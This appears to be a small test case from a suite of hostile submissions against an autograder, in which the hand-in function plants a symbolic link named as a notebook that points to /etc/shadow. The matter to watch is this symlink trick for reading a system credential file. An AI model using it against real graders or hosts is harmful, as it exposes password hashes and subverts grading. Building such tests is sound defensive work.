# /// attack
# tries = "hands in a link in the place of a notebook"
# total = 0
# [parts]
# ///

"""A symbolic link to a file that only the grader may read."""

from pathlib import Path

from hostile_attacks import code_cell, notebook


def hand_in(target: Path) -> None:
    target.with_name(f"{target.name}.ipynb").symlink_to("/etc/shadow")
